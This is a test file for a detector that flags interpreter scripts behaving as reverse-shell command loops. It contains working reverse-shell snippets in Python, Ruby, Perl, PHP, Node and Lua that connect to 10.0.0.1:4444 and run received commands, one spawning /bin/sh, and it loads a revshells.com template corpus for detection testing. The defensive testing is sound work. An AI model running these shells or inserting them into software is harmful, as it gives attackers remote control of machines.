import { readFileSync } from 'node:fs';
import { dirname, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { analyzeScriptProgram, MAX_SCRIPT_BYTES, scriptOperand } from './script-program.js';

describe('scriptOperand', () => {
  it.each([
    [['python3', '/opt/w.py', 'x'], 'python3', '/opt/w.py'],
    [['python3', '-u', '-W', 'ignore', 'w.py'], 'python3', 'w.py'],
    [['python3', '-Wignore', '-X', 'dev', 'w.py'], 'python3', 'w.py'],
    [['python3', '-c', 'import os'], 'python3', null],
    [['python3', '-uc', 'import os'], 'python3', null],
    [['python3', '-m', 'http.server'], 'python3', null],
    [['python3'], 'python3', null],
    [['perl', '-MIO::Select', '-w', 'loop.pl'], 'perl', 'loop.pl'],
    [['perl', '-MIO', '-e', 'code'], 'perl', null],
    [['perl', '-le', 'print 1'], 'perl', null],
    [['ruby', '-rsocket', 'loop.rb', '10.0.0.1'], 'ruby', 'loop.rb'],
    [['ruby', '-rsocket', '-e', 'code'], 'ruby', null],
    [['node', '--require', 'x', 'server.js'], 'node', 'server.js'],
    [['node', '-e', 'code'], 'node', null],
    [['php', '-d', 'memory_limit=1G', '-f', 'run.php'], 'php', 'run.php'],
    [['php', '-r', 'code'], 'php', null],
    [['lua5.4', '-l', 'socket', 'loop.lua'], 'lua5.4', 'loop.lua'],
    [['awk', '{print}', 'f'], 'awk', null],
    [['gawk', '-f', 'prog.awk'], 'gawk', 'prog.awk'],
    [['python3', '--', 'w.py'], 'python3', 'w.py'],
    [['bash', 'x.sh'], 'bash', null],
  ] as const)('%j → %s', (argv, comm, want) => {
    expect(scriptOperand(argv, [comm])).toBe(want);
  });
});

describe('analyzeScriptProgram', () => {
  const loops: Record<string, string> = {
    'python subprocess loop': 'import socket,subprocess\ns=socket.socket()\ns.connect(("10.0.0.1",4444))\nwhile True:\n  c=s.recv(1024)\n  s.send(subprocess.check_output(c,shell=True))\n',
    'python os.popen loop': 'import socket,os\ns=socket.create_connection(("h",1))\nf=s.makefile()\nfor l in f: s.sendall(os.popen(l).read().encode())\n',
    'ruby backtick loop': 'require "socket"\nc=TCPSocket.new("10.0.0.1",4444)\nwhile(cmd=c.gets)\n  IO.popen(cmd,"r"){|io|c.print io.read}\nend\n',
    'perl loop': 'use IO::Socket;\n$c=IO::Socket::INET->new(PeerAddr=>"10.0.0.1:4444");\nwhile(<$c>){ print $c `$_`; }\n',
    'php loop': '<?php $s=fsockopen("10.0.0.1",4444); while(!feof($s)){ $c=fgets($s); fwrite($s, shell_exec($c)); }',
    'node loop': "const net=require('net'),cp=require('child_process');const c=net.connect(4444,'10.0.0.1');c.on('data',d=>cp.exec(d.toString(),(e,o)=>c.write(o)));",
    'lua loop': 'local socket=require("socket")\nlocal c=socket.connect("10.0.0.1",4444)\nwhile true do local l=c:receive() local f=io.popen(l) c:send(f:read("*a")) end\n',
    'python dup2': 'import socket,os\ns=socket.socket();s.connect(("10.0.0.1",4444))\nos.dup2(s.fileno(),0);os.dup2(s.fileno(),1)\nos.system("/bin/sh -i")\n',
  };
  it.each(Object.entries(loops))('%s is a command loop', (_name, src) => {
    const a = analyzeScriptProgram(src);
    expect(a.commandLoop).toBe(true);
  });

  const benign: Record<string, string> = {
    'downloader that runs a build': "const https=require('https');https.get(url,r=>r.pipe(out));require('child_process').execSync('make');",
    'npm-like connect + exec without reading': "const s=require('net').connect(443,'r');s.write(b);require('child_process').exec('node-gyp rebuild');",
    'command runner without network': 'import subprocess,sys\nfor l in sys.stdin:\n  subprocess.run(l, shell=True)\n',
    'socket client without exec': 'import socket\ns=socket.create_connection(("h",80))\ns.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")\nprint(s.recv(4096))\n',
    'http server': 'import http.server, subprocess\nhttp.server.HTTPServer(("",8000), H).serve_forever()\n',
    'port check then build with 2>&1': 'import socket, subprocess\nsocket.create_connection(("db", 5432)).close()\nsubprocess.run("make 2>&1 | tee log", shell=True)\n',
  };
  it.each(Object.entries(benign))('%s is not', (_name, src) => {
    expect(analyzeScriptProgram(src).commandLoop).toBe(false);
  });

  it('a big file (an application or bundle with sockets, exec and reads somewhere) is never a command loop', () => {
    const loop = loops['node loop'] as string;
    expect(analyzeScriptProgram(loop + '\n// padding\n'.repeat(100)).commandLoop).toBe(true);
    expect(analyzeScriptProgram(loop + '\n'.repeat(MAX_SCRIPT_BYTES))).toEqual({ commandLoop: false, features: ['script-too-large'] });
  });
});

describe('analyzeScriptProgram on the revshells.com corpus, inline programs written to files', () => {
  const here = dirname(fileURLToPath(import.meta.url));
  const corpus = resolve(process.env.VIGIL_SHARED_DATA ?? resolve(here, '../../../../shared/data'), 'revshell/commands.json');
  const templates = JSON.parse(readFileSync(corpus, 'utf8')) as { name: string; command: string; os: string[]; type: string }[];
  // `python3 -c '…'`, `perl -e "…"`, `php -r '…'`, `lua -e '…'`: the program an attacker could as well save to a file.
  const INLINE = /^(?:\S*\/)?(?:python3?|perl|ruby|php|node|lua\S*)\s+(?:-\S+\s+)*?-[cer]\s+(['"])([\s\S]*)\1\s*$/;
  const programs = templates
    .filter((t) => t.type === 'reverse' && t.os.includes('linux'))
    .map((t) => ({ name: t.name, code: INLINE.exec(t.command.replaceAll('{ip}', '10.0.0.1').replaceAll('{port}', '4444').replaceAll('{shell}', 'sh'))?.[2] }))
    .filter((p): p is { name: string; code: string } => p.code !== undefined);

  it('calls every one a command loop', () => {
    const misses = programs.filter((p) => !analyzeScriptProgram(p.code).commandLoop).map((p) => p.name);
    console.log(`script rule on corpus programs: ${programs.length - misses.length}/${programs.length}`);
    expect(programs.length).toBeGreaterThanOrEqual(14);
    expect(misses).toEqual([]);
  });
});
